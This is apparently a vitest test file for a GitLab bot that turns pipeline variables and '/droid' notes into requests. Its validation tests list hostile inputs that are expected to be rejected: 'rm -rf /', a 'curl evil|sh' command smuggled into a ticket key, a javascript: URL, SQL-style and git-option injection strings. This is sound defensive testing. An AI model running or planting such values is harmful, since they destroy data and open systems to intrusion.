import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { requestFromGitLabEnv } from '../src/platform/gitlab/trigger.js';
import { parseNote } from '../src/trigger/command-text.js';
import type { Request } from '../src/trigger/request.js';
import { DroidError } from '../src/util/errors.js';

function env(name: string, extra: Record<string, string | undefined> = {}): NodeJS.ProcessEnv {
  const load = (f: string): Record<string, string> => JSON.parse(readFileSync(new URL(`./fixtures/gitlab/env/${f}.json`, import.meta.url), 'utf8')) as Record<string, string>;
  return { ...load('base'), ...load(name), ...extra };
}

function request(e: NodeJS.ProcessEnv): Request {
  const result = requestFromGitLabEnv(e);
  if (result.kind !== 'request') throw new Error(`ignored: ${result.reason}`);
  return result.request;
}

describe('GitLab pipeline variables -> request', () => {
  it('reads a merge request pipeline: the MR is the target, its head SHA is pinned', () => {
    const r = request(env('mr-pipeline'));
    expect(r.command).toBe('test');
    expect(r.actor).toBe('alice');
    expect(r.target).toEqual({
      kind: 'change',
      number: 17,
      headBranch: 'feature/iso-weeks',
      headSha: '3f786850e387550fdab836ed7e6dc881de23001b',
      baseBranch: 'main',
      fromFork: false,
    });
    expect(r.ticket).toEqual({ key: '!17', title: 'Accept ISO week dates', body: 'The parser rejects 2024-W05-3.', url: undefined });
    expect(r.source.event).toBe('gitlab:merge_request_event');
  });

  it('makes a merge request pipeline run with --command review an automatic review (review.auto decides later)', () => {
    const r = requestFromGitLabEnv(env('mr-pipeline'), { command: 'review' });
    expect(r.kind).toBe('request');
    if (r.kind !== 'request') return;
    expect(r.request.command).toBe('review');
    expect(r.request.source).toMatchObject({ event: 'gitlab:merge_request_event', auto: true });
    expect(r.request.target).toMatchObject({ kind: 'change', number: 17 });
  });

  it('leaves a draft merge request unreviewed until it is marked ready', () => {
    const r = requestFromGitLabEnv(env('mr-pipeline', { CI_MERGE_REQUEST_DRAFT: 'true' }), { command: 'review' });
    expect(r).toEqual({ kind: 'ignore', reason: 'merge request !17 is a draft: it is reviewed once it is marked ready' });
  });

  it('treats a relayed `/droid review` note as a person asking, not as an automatic review', () => {
    const r = request(env('relay-mr-note', { DROID_NOTE_BODY: '/droid review focus on the parser' }));
    expect(r.command).toBe('review');
    expect(r.instructions).toBe('focus on the parser');
    expect(r.source.auto).toBeUndefined();
  });

  it('marks a merge request from a fork (source project differs from the target project)', () => {
    const r = request(env('fork-mr-pipeline'));
    expect(r.target).toMatchObject({ kind: 'change', number: 23, fromFork: true });
    expect(r.actor).toBe('outside-contributor');
  });

  it('takes a relayed /droid note: command and instructions from the note, the note author as actor', () => {
    const r = request(env('relay-mr-note'));
    expect(r.command).toBe('fix');
    expect(r.instructions).toBe('make the date parser accept ISO weeks\n\nsee the failing case in the issue');
    expect(r.actor).toBe('bob');
    expect(r.target).toMatchObject({ kind: 'change', number: 17, headBranch: 'feature/iso-weeks', baseBranch: 'main', fromFork: false });
    expect(r.ticket.key).toBe('!17');
    expect(r.source).toEqual({ event: 'gitlab:note', commentId: 1244, url: 'https://gitlab.example.com/acme/shop/-/merge_requests/17#note_1244' });
  });

  it('takes a relayed note on an issue as a ticket for a fresh branch', () => {
    const r = request(env('relay-issue-note'));
    expect(r.command).toBe('plan');
    expect(r.target).toEqual({ kind: 'ticket', issueNumber: 5 });
    expect(r.ticket).toMatchObject({ key: '#5', title: 'Checkout total is off by one cent' });
  });

  it('takes a ticket from an API-triggered pipeline (Jira automation)', () => {
    const r = request(env('api-ticket'));
    expect(r.command).toBe('fix');
    expect(r.actor).toBe('dave');
    expect(r.ticket).toEqual({
      key: 'SHOP-311',
      title: 'Coupons: reject expired codes',
      body: 'Expired coupon codes are still applied at checkout.',
      url: 'https://acme.atlassian.net/browse/SHOP-311',
    });
    expect(r.target).toEqual({ kind: 'ticket', issueNumber: undefined });
  });

  it('turns a failed pipeline on a droid branch into ci-fix on its open merge request', () => {
    const r = request(env('ci-fix-branch'));
    expect(r.command).toBe('ci-fix');
    expect(r.target).toEqual({
      kind: 'change',
      number: 31,
      headBranch: 'droid/SHOP-311-reject-expired-coupons',
      headSha: 'd670460b4b4aece5915caf5c68d12f560a9fe3e4',
      baseBranch: 'main',
      fromFork: false,
    });
  });

  it('ignores ci-fix on branches the droid does not own, and without an open merge request', () => {
    expect(requestFromGitLabEnv(env('ci-fix-branch', { CI_COMMIT_REF_NAME: 'feature/x' }))).toMatchObject({ kind: 'ignore', reason: expect.stringContaining('droid/') });
    expect(requestFromGitLabEnv(env('ci-fix-branch', { CI_OPEN_MERGE_REQUESTS: undefined }))).toMatchObject({ kind: 'ignore', reason: expect.stringContaining('no open merge request') });
    expect(requestFromGitLabEnv(env('ci-fix-branch', { CI_OPEN_MERGE_REQUESTS: 'other/project!31' }))).toMatchObject({ kind: 'ignore' });
  });

  it('ignores a pipeline that asks nothing, and a note that does not start with the trigger', () => {
    expect(requestFromGitLabEnv(env('mr-pipeline', { DROID_COMMAND: undefined }))).toMatchObject({ kind: 'ignore' });
    expect(requestFromGitLabEnv(env('relay-mr-note', { DROID_NOTE_BODY: 'thanks! /droid fix later' }))).toMatchObject({ kind: 'ignore' });
    expect(requestFromGitLabEnv(env('relay-mr-note', { DROID_NOTE_BODY: '/droidx fix' }))).toMatchObject({ kind: 'ignore' });
  });

  it('honours a custom trigger phrase and a command given on the command line', () => {
    const r = requestFromGitLabEnv(env('relay-mr-note', { DROID_NOTE_BODY: '@bot plan the refactor' }), { trigger: '@bot' });
    expect(r).toMatchObject({ kind: 'request', request: { command: 'plan', instructions: 'the refactor' } });
    const c = requestFromGitLabEnv(env('api-ticket'), { command: 'plan' });
    expect(c).toMatchObject({ kind: 'request', request: { command: 'plan' } });
  });

  it('falls back to GITLAB_USER_LOGIN when DROID_ACTOR is unset', () => {
    expect(request(env('api-ticket', { DROID_ACTOR: undefined })).actor).toBe('alice');
  });
});

describe('hostile or broken variables give clear errors', () => {
  const cases: Array<[string, Record<string, string | undefined>, RegExp]> = [
    ['an unknown command', { DROID_COMMAND: 'rm -rf /' }, /DROID_COMMAND "rm -rf \/" is not a droid command/],
    ['a ticket key with shell characters', { DROID_TICKET_KEY: 'X-1;curl evil|sh' }, /DROID_TICKET_KEY .* is not a ticket key/],
    ['an actor with spaces', { DROID_ACTOR: 'alice bob' }, /is not a GitLab username/],
    ['a javascript: ticket URL', { DROID_TICKET_URL: 'javascript:alert(1)' }, /DROID_TICKET_URL must be an http\(s\) URL/],
    ['a ticket URL with credentials', { DROID_TICKET_URL: 'https://u:p@jira.example.com/x' }, /must not contain credentials/],
    ['an issue number that is not a number', { DROID_ISSUE_IID: '5 OR 1=1' }, /DROID_ISSUE_IID .* is not a positive number/],
    ['no ticket at all', { DROID_TICKET_KEY: undefined }, /needs a ticket/],
    ['no actor at all', { DROID_ACTOR: undefined, GITLAB_USER_LOGIN: undefined }, /neither DROID_ACTOR nor GITLAB_USER_LOGIN/],
  ];
  for (const [what, extra, message] of cases) {
    it(`refuses ${what}`, () => {
      const error = (() => {
        try {
          requestFromGitLabEnv(env('api-ticket', extra));
        } catch (e) {
          return e;
        }
        return undefined;
      })();
      expect(error).toBeInstanceOf(DroidError);
      expect((error as DroidError).kind).toBe('usage');
      expect((error as Error).message).toMatch(message);
    });
  }

  it('refuses branch names git would misread, and SHAs that are not SHAs', () => {
    for (const bad of ['-upload-pack=evil', 'a..b', 'x y', 'refs/heads/@{0}', 'x\nrm']) {
      expect(() => requestFromGitLabEnv(env('relay-mr-note', { DROID_MR_SOURCE_BRANCH: bad }))).toThrow(/DROID_MR_SOURCE_BRANCH .* is not a valid branch name/);
    }
    expect(() => requestFromGitLabEnv(env('mr-pipeline', { CI_COMMIT_SHA: 'HEAD~1' }))).toThrow(/not a commit SHA/);
  });

  it('keeps a huge note bounded and a multi-line title on one line', () => {
    const r = request(env('relay-mr-note', { DROID_NOTE_BODY: `/droid fix ${'a'.repeat(200_000)}`, DROID_TICKET_TITLE: 'line one\nline two' }));
    expect(r.instructions.length).toBeLessThan(70_000);
    expect(r.ticket.title).toBe('line one line two');
  });
});

describe('note parsing', () => {
  it('reads the command word, defaulting to fix', () => {
    expect(parseNote('/droid', '/droid')).toEqual({ command: 'fix', instructions: '' });
    expect(parseNote('  /droid ci-fix  ', '/droid')).toEqual({ command: 'ci-fix', instructions: '' });
    expect(parseNote('/DROID Plan split the module', '/droid')).toEqual({ command: 'plan', instructions: 'split the module' });
    expect(parseNote('/droid please tidy up', '/droid')).toEqual({ command: 'fix', instructions: 'please tidy up' });
    expect(parseNote('hello /droid fix', '/droid')).toBeUndefined();
  });
});
